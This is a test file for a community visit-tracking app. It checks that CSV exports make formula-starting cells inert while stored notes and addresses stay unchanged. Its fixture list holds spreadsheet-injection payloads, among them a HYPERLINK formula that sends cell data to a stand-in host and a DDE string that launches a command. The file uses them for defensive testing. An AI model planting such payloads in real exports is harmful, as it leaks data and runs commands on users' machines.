"""CSV exports: no cell a spreadsheet would run as a formula, what is stored left as written, and
one Content-Type with one charset."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, datetime

import pytest

from server.core.csv_export import cell
from tests.helpers.world import World, new_world, signed_in

PLANTED = [
    '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTAB=1",
    "\rCR=1",
]


def test_cell_neutralises_what_starts_a_formula_and_leaves_numbers_and_text() -> None:
    for planted in PLANTED:
        assert cell(planted) == "'" + planted
    assert cell("-12.5") == "-12.5" and cell("+81") == "+81" and cell(36.38) == "36.38"
    assert cell("玄関で会話 =ok") == "玄関で会話 =ok" and cell(None) == "" and cell("") == ""


def _rows(body: bytes, encoding: str = "utf-8-sig") -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode(encoding), newline="")))


@pytest.fixture
async def world(sessionmaker) -> World:
    return await new_world(sessionmaker)


async def test_a_note_planted_by_a_watcher_leaves_visits_csv_inert_and_stays_stored(world, client_factory) -> None:
    staff = await signed_in(client_factory, world, "staff")
    r = await staff.send_json(
        "POST",
        "/api/operations",
        {
            "kind": "watch_round",
            "mode": "real",
            "name": "=定期見守り",
            "district_ids": [str(world.districts["D1"])],
            "start": True,
        },
    )
    assert r.status_code == 201, r.text
    op = r.json()["id"]
    watcher = await signed_in(client_factory, world, "watcher")
    for who, household, note in ((watcher, "H1", PLANTED[0]), (staff, "H2", PLANTED[1])):
        visit = {
            "client_id": str(uuid.uuid4()),
            "household_id": str(world.households[household]),
            "outcome": "ok",
            "device_time": datetime.now(UTC).isoformat(),
            "note": note,
        }
        assert (await who.send_json("POST", f"/api/operations/{op}/visits", visit)).status_code == 201

    export = await staff.get("/api/exports/visits.csv")
    assert export.status_code == 200
    assert export.headers["content-type"] == "text/csv; charset=utf-8"
    rows = _rows(export.content)[1:]
    assert sorted(r[6] for r in rows) == sorted("'" + n for n in PLANTED[:2])
    assert {r[0] for r in rows} == {"'=定期見守り"}
    assert b'"' + b"'=HYPERLINK" in export.content  # every cell quoted
    # What the watcher wrote is kept as written (the export alone changes).
    mine = (await watcher.get("/api/field/visits")).json()
    assert [v["note"] for v in mine] == [PLANTED[0]]


async def test_households_csv_is_inert_in_both_encodings(world, client_factory) -> None:
    staff = await signed_in(client_factory, world, "staff")
    hid = world.households["H1"]
    h = (await staff.get(f"/api/households/{hid}")).json()
    r = await staff.send_json(
        "PATCH", f"/api/households/{hid}", {"version": h["version"], "address": "=1+2 笠間市", "town": "@町"}
    )
    assert r.status_code == 200, r.text
    for encoding, charset in (("utf-8-bom", "utf-8"), ("cp932", "Windows-31J")):
        export = await staff.get("/api/exports/households.csv", params={"encoding": encoding})
        assert export.status_code == 200
        assert export.headers.get_list("content-type") == [f"text/csv; charset={charset}"]
        rows = _rows(export.content, "utf-8-sig" if encoding == "utf-8-bom" else "cp932")
        header, body = rows[0], rows[1:]
        mine = [row for row in body if row[header.index("世帯ID")] == str(hid)]
        assert mine and mine[0][header.index("住所")] == "'=1+2 笠間市" and mine[0][header.index("町字")] == "'@町"
        assert mine[0][header.index("緯度")] == "36.3600000"  # a number stays a number
    assert (await staff.get(f"/api/households/{hid}")).json()["address"] == "=1+2 笠間市"
